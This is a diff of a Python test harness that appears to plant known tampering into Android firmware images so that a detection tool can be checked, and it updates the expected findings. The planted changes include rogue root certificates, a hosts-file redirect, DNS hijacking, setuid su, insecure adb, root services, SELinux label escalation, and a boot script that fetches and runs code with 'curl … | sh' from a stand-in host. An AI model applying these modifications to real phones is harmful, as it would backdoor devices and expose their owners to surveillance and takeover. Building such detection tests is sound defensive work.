@@ -23,7 +23,7 @@ def root_certificate_added(site):
     pem = made_certificate(site, "root")
     hashed = apk.run("openssl", "x509", "-subject_hash_old", "-noout", "-in", site.rebuild.keys.made("root")[1]).decode().strip()
     site.files[f"{CACERTS[site.host]}/{hashed}.0"] = tree.Entry(pem)
-    return Sees("cert|root|authority|ca", r"(?i)bench root|CN=bench|" + hashed, "")
+    return Sees("certificate_added|finding_gained", "", "CN=bench root")
 
 
 @plant("certificate authority", "blu", quiet=True)
@@ -33,7 +33,7 @@ def root_certificate_removed(site):
     text = apk.run("openssl", "x509", "-noout", "-subject", "-nameopt", "utf8,sep_comma_plus", input=site.files[path].data).decode(errors="replace").strip()
     del site.files[path]
     common = max((part.split("=", 1)[-1].strip() for part in text.replace("subject=", "").split(",")), key=len)
-    return Sees("cert|root|authority|ca|remov|missing", word(common[:12]) + "|" + path.rsplit("/", 1)[-1])
+    return Sees("certificate_removed|finding_gained", "", word(common[:12]))
 
 
 @plant("update key", "oneplus", "sample")
@@ -44,7 +44,7 @@ def update_certificate_added(site):
     with zipfile.ZipFile(out, "a") as archive:
         archive.writestr("second.x509.pem", made_certificate(site, "update"))
     site.files.write(path, out.getvalue())
-    return Sees("cert|update|key|ota", r"(?i)bench update|CN=bench|otacerts|ota", "")
+    return Sees("certificate_added", "ota", "CN=bench update")
 
 
 @plant("hosts file", "blu", "oneplus")
@@ -52,7 +52,7 @@ def hosts_entry(site):
     """A name is sent elsewhere for the whole phone."""
     path = {"blu": "system/etc/hosts", "oneplus": "system/system/etc/hosts"}[site.host]
     site.edit(path, lambda text: text + "203.0.113.7       update.googleapis.com\n")
-    return Sees("host", r"googleapis|203\.0\.113\.7", r"googleapis")
+    return Sees("finding_gained|setting_changed", r"update\.googleapis\.com", r"203\.0\.113\.7")
 
 
 @plant("root service", "oneplus", "sample")
@@ -64,7 +64,7 @@ def service_in_overlay_script(site):
     site.files[f"{folder}/{name}.rc"] = tree.Entry(f"service {name} /vendor/bin/{name} --daemon\n    class late_start\n    user root\n    group root inet\n    seclabel u:r:su:s0\n".encode())
     donor = next(p for p in sorted(site.files) if p.startswith(program + "/") or "/bin/" in p)
     site.files[f"{program}/{name}"] = replace(site.files[donor], mode=0o755)
-    return Sees("service|init|root|program", word(name), "")
+    return Sees("service_added", word(name), "root")
 
 
 @plant("root service", "sample", "oneplus", quiet=True)
@@ -77,7 +77,7 @@ def service_becomes_root(site):
         name = next(line.split()[1] for line in site.files.text(path).splitlines() if line.startswith("service "))
         before = "user system"
     site.edit(path, lambda text: text.replace(before, "user root", 1))
-    return Sees("service|init|root", word(name), "root")
+    return Sees("service_changed", word(name), "root")
 
 
 @plant("set-uid", "blu", "oneplus", quiet=True)
@@ -86,7 +86,7 @@ def program_becomes_setuid(site):
     folder = {"blu": "system/xbin/", "oneplus": "system/system/bin/"}[site.host]
     path = next(p for p in sorted(site.files) if p.startswith(folder) and site.files[p].data[:4] == b"\x7fELF" and len(site.files[p].data) > 5000)
     site.files[path] = replace(site.files[path], mode=0o6755)
-    return Sees("setuid|set_uid|mode|program|file", word(path.rsplit("/", 1)[-1]))
+    return Sees("privileged_file_added", word(path.rsplit("/", 1)[-1]), "setuid")
 
 
 @plant("file capability", "oneplus", "blu", quiet=True)
@@ -96,7 +96,7 @@ def program_gets_capability(site):
     path = [p for p in sorted(site.files) if p.startswith(folder) and site.files[p].data[:4] == b"\x7fELF"][3]
     value = struct.pack("<IIIII", 0x02000001, 1 << 19 | 1 << 1, 0, 0, 0)
     site.files[path] = replace(site.files[path], extended={"security.capability": value})
-    return Sees("capab|program|file", word(path.rsplit("/", 1)[-1]))
+    return Sees("privileged_file_added", word(path.rsplit("/", 1)[-1]), "capability")
 
 
 @plant("su", "blu")
@@ -104,7 +104,7 @@ def su_program_added(site):
     """A program named su with the set-uid bit."""
     donor = next(p for p in sorted(site.files) if p.startswith("system/xbin/") and site.files[p].data[:4] == b"\x7fELF")
     site.files["system/xbin/su"] = replace(site.files[donor], mode=0o6755)
-    return Sees("su|setuid|set_uid|program|file", r"(^|/)su($|\W)")
+    return Sees("privileged_file_added|finding_gained", r"/su($|\W)")
 
 
 @plant("property", "blu", "sample", quiet=True)
@@ -112,7 +112,7 @@ def build_becomes_debuggable(site):
     """One digit: the build lets itself be debugged."""
     path = {"blu": "boot/ramdisk/default.prop", "sample": "system/system/build.prop"}[site.host]
     site.edit(path, lambda text: text.replace("ro.debuggable=0", "ro.debuggable=1"))
-    return Sees("prop|debug|build", r"ro\.debuggable|debug|build", "debug")
+    return Sees("property_changed|switch_changed|finding_gained", r"ro\.debuggable", "")
 
 
 @plant("property", "oneplus", "blu", quiet=True)
@@ -120,21 +120,21 @@ def cable_without_asking(site):
     """The debug bridge lets in any computer without asking the owner."""
     path = {"blu": "boot/ramdisk/default.prop", "oneplus": "system/system/etc/prop.default"}[site.host]
     site.edit(path, lambda text: text.replace("ro.adb.secure=1", "ro.adb.secure=0"))
-    return Sees("prop|debug|adb", r"ro\.adb\.secure|adb|build", "adb")
+    return Sees("property_changed|switch_changed|finding_gained", r"ro\.adb\.secure")
 
 
 @plant("property", "sample")
 def property_starts_service(site):
     """A new property starts a service that was there and slept."""
     site.edit("system/system/build.prop", lambda text: text + "persist.sys.sample.telemetry=1\n")
-    return Sees("prop|service|init", r"persist\.sys\.sample\.telemetry|sample_helperd")
+    return Sees("property_changed|service_changed", r"persist\.sys\.sample\.telemetry|sample_helperd")
 
 
 @plant("name server", "xiaomi", quiet=True)
 def dns_by_property(site):
     """A property names the server that all names are asked from."""
     site.edit("system/build.prop", lambda text: text + "net.dns1=203.0.113.53\n")
-    return Sees("dns|prop|network", r"net\.dns1|dns", "203|dns")
+    return Sees("property_changed|switch_changed|finding_gained", r"net\.dns1", "203")
 
 
 @plant("boot script", "blu", quiet=True)
@@ -142,7 +142,7 @@ def init_runs_shell_command(site):
     """At each boot init runs a command of the shell as root."""
     path = "boot/ramdisk/init.rc"
     site.edit(path, lambda text: text.replace("on boot\n", "on boot\n    exec -- /system/bin/sh /data/local/tmp/.b.sh\n", 1))
-    return Sees("init|action|service|command|boot", r"init|boot|exec|sh", r"\.b\.sh|/data/local/tmp")
+    return Sees("init_action_added", "", r"/data/local/tmp/\.b\.sh")
 
 
 def certificate_hex(site, name):
@@ -155,7 +155,7 @@ def signer_gets_platform_label(site):
     path = {"oneplus": "system/system/etc/selinux/plat_mac_permissions.xml", "blu": "system/etc/security/mac_permissions.xml"}[site.host]
     entry = f'<signer signature="{certificate_hex(site, "stranger")}"><seinfo value="platform"/></signer></policy>'
     site.edit(path, lambda text: text.replace("</policy>", entry, 1))
-    return Sees("seinfo|selinux|sign|label|mac", r"(?i)seinfo|platform|mac_permissions|CN=bench|[0-9a-f]{8}")
+    return Sees("allow_list_line", "mac_permissions platform", "[0-9a-f]{64}")
 
 
 @plant("seapp", "oneplus", "sample", quiet=True)
@@ -164,7 +164,7 @@ def app_gets_system_domain(site):
     path = "system/system/etc/selinux/plat_seapp_contexts"
     name = {"oneplus": "com.tencent.mm", "sample": "com.planted.bench"}[site.host]
     site.edit(path, lambda text: text.rstrip("\n") + f"\nuser=_app seinfo=default name={name} domain=system_app type=system_app_data_file levelFrom=user\n")
-    return Sees("seapp|selinux|domain|label", word(name) + "|seapp|system_app", word(name))
+    return Sees("app_domain_rule", "seapp system_app", word(name))
 
 
 @plant("module key", "sample", quiet=True)
@@ -176,12 +176,12 @@ def module_signed_by_another(site):
     folder = site.folder / "planted"
     folder.mkdir(exist_ok=True)
     site.files.write(path, site.rebuild.keys.sign(module.pack(site.rng), "stranger", site.rebuild.host.sdk, folder))
-    return Sees("sign|key|apex|module", r"apex|nl\.klikspaan\.sample", "")
+    return Sees("module_key|package_signer", "apex", "")
 
 
 @plant("boot script", "sample", quiet=True)
 def script_after_update(site):
     """A script that runs when recovery is put back after an update fetches and runs a file."""
-    site.files["system/system/bin/install-recovery.sh"] = tree.Entry(b"#!/system/bin/sh\ncurl -s http://boot.planted-bench.example/r.sh | sh\n", 0o755)
+    site.files["system/system/bin/install-recovery.sh"] = tree.Entry(b"#!/system/bin/sh\ncurl -s http://boot.plantedbench.net/r.sh | sh\n", 0o755)
     site.edit("system/system/etc/init/sample.rc", lambda text: text + "\nservice flash_recovery /system/bin/install-recovery.sh\n    class main\n    user root\n    oneshot\n")
-    return Sees("service|init|root|host|program", r"flash_recovery|install-recovery|planted-bench")
+    return Sees("service_added|host_added", r"flash_recovery|plantedbench")
